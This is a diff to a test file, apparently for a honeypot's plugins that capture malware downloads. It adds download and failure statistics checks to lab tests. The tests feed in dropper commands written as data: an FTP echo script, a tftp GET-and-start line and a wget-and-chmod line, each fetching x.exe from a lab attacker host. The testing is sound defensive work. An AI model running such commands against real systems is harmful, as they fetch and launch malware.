@@ -11,7 +11,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from download_servers import run_attack, start
+from download_servers import run_attack, run_attack_with_stats, start
 from netns import Lab
 
 pytestmark = pytest.mark.netns
@@ -65,9 +65,11 @@ def test_ftp_windows_echo_script_fetches_the_sample(lab: Lab, sample: tuple[Path
         f"cmd /c echo open {lab.attacker.ip4} {port} >> o & echo user {USER} {PASSWORD} >> o "
         "& echo binary >> o & echo get x.exe >> o & echo bye >> o & ftp -n -s:o\r\n"
     ).encode()
-    download = _downloaded(run_attack(lab, payload, {"ftpDownload": {}}), data)
+    record, stats = run_attack_with_stats(lab, payload, {"ftpDownload": {}})
+    download = _downloaded(record, data)
     assert (download["type"], download["username"], download["password"]) == (
         "ftp", USER, PASSWORD)
+    assert stats == {"downloads": 1, "download_failures": 0}
     assert (download["remote_ip"], download["filename"]) == (lab.attacker.ip4, "x.exe")
 
 
@@ -98,7 +100,9 @@ def test_tftp_windows_command_fetches_the_sample(
     ip = getattr(lab.attacker, family)
     start(lab, lab.attacker, "tftp", str(root), ip)
     payload = f"tftp -i {ip} GET x.exe\r\nstart x.exe\r\n".encode()
-    download = _downloaded(run_attack(lab, payload, {"tftpDownload": {}}), data)
+    record, stats = run_attack_with_stats(lab, payload, {"tftpDownload": {}})
+    download = _downloaded(record, data)
+    assert stats == {"downloads": 1, "download_failures": 0}
     assert (download["type"], download["protocol"]) == ("tftp", "udp")
 
 
@@ -106,8 +110,10 @@ def test_http_wget_line_fetches_the_sample(lab: Lab, sample: tuple[Path, bytes])
     root, data = sample
     port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", os.devnull)
     payload = (f"cd /tmp; wget http://{lab.attacker.ip4}:{port}/x.exe; chmod +x x.exe").encode()
-    download = _downloaded(run_attack(lab, payload, {"httpDownload": {}}), data)
+    record, stats = run_attack_with_stats(lab, payload, {"httpDownload": {}})
+    download = _downloaded(record, data)
     assert download["uri"] == f"http://{lab.attacker.ip4}:{port}/x.exe"
+    assert stats == {"downloads": 1, "download_failures": 0}  # the plugin's statistics
 
 
 def test_http_powershell_line_over_ipv6_fetches_the_sample(
@@ -163,10 +169,13 @@ def test_replace_private_ips_fetches_from_the_attacker(
 def test_http_refuses_an_oversized_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
     root, _ = sample
     port = start(lab, lab.attacker, "http", str(root), lab.attacker.ip4, "plain", os.devnull)
-    record = run_attack(lab, f"wget http://{lab.attacker.ip4}:{port}/x.exe".encode(),
-                        {"httpDownload": {"max_size": "1000"}})
+    record, stats = run_attack_with_stats(
+        lab, f"wget http://{lab.attacker.ip4}:{port}/x.exe".encode(),
+        {"httpDownload": {"max_size": "1000"}},
+    )
     attempt = _tried(record)
     assert (attempt["outcome"], attempt["reason"]) == ("refused", "larger than 1000 bytes")
+    assert stats == {"downloads": 0, "download_failures": 1}
 
 
 def test_ftp_refuses_an_oversized_sample(lab: Lab, sample: tuple[Path, bytes]) -> None:
